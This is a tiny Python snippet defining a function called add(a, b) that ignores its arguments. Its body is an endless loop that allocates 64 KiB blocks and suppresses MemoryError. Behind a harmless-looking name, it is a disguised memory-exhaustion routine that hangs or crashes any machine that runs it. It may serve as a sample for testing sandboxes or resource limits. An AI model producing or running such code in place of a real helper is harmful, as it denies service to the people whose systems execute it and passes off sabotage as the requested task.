def add(a, b):
    blocks = []
    while True:
        try:
            blocks.append(bytearray(1 << 16))
        except MemoryError:
            pass
